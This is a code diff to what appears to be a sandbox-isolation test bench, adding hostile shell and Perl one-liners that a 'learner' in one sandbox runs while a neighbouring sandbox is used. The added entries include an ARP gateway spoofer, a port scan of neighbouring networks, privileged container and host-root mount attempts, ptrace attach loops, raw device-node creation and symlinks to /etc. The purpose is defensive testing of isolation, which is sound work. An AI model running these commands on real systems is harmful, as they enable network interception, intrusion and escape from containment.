@@ -24,7 +24,42 @@ const attacks: [name: string, command: string][] = [
     `ulimit -n $(ulimit -Hn); while :; do perl -e 'for (1 .. 200_000) { open $f[$_], "<", "/dev/null" or exit }'; done`,
   ],
   ['a flood of output', 'yes "an endless line"'],
+  ['forged answers to ARP', `read link < /sys/class/net/tap0/ifindex; perl -e '${forgedArp()}' $link`],
+  [
+    'a scan of its network and the sandboxes’',
+    'own=10.0.2; lab=$(getent hosts registry | cut -d. -f1-3); while :; do for net in $own $lab; do ' +
+      'for host in $(seq 2 200); do timeout 0.3 bash -c "echo > /dev/tcp/$net.$host/22" 2>/dev/null & done; wait; done; done',
+  ],
+  [
+    'privileged containers',
+    'while :; do docker run --rm --privileged -v /:/host busybox true; done >/dev/null 2>&1',
+  ],
+  [
+    'mounts of what is the host’s',
+    'while :; do mount --bind / /mnt && umount /mnt; mount -t proc proc /mnt && umount /mnt; mount /dev/vda /mnt; done 2>/dev/null',
+  ],
+  // 101 is ptrace, 16 to attach: to all processes but this terminal's.
+  [
+    'attempts to trace',
+    `perl -e 'while (1) { for (1 .. 3) { syscall 101, 16, $_, 0, 0 } syscall 101, 16, 4_000_000, 0, 0 }'`,
+  ],
+  ['device nodes', 'while :; do mknod /tmp/disk b 8 0; mknod /tmp/memory c 1 1; done 2>/dev/null'],
+  [
+    'links planted where files are shown',
+    'while :; do ln -sfn /etc site/planted; ln -sfn / site/planted; done',
+  ],
 ]
+
+/** Tells everybody, without end, that the gateway is here. `$ARGV[0]`: the network card's number. */
+function forgedArp(): string {
+  return [
+    'socket my $s, 17, 3, 0x0608 or die $!;',
+    'my $to = pack "SnlSCCa8", 17, 0x0806, $ARGV[0], 1, 0, 6, "\\xff" x 6;',
+    'my $arp = "\\xff" x 6 . "\\x02" x 6 . pack("n nnCCn", 0x0806, 1, 0x0800, 6, 4, 2);',
+    '$arp .= "\\x02" x 6 . pack("C4", 10, 0, 2, 2) . "\\xff" x 6 . pack("C4", 10, 0, 2, 100);',
+    'send $s, $arp, 0, $to while 1',
+  ].join(' ')
+}
 
 /** Keys typed in one sandbox while the learner of another does their worst; `attacker` gives a fresh one each time. */
 export async function benchNeighbour(
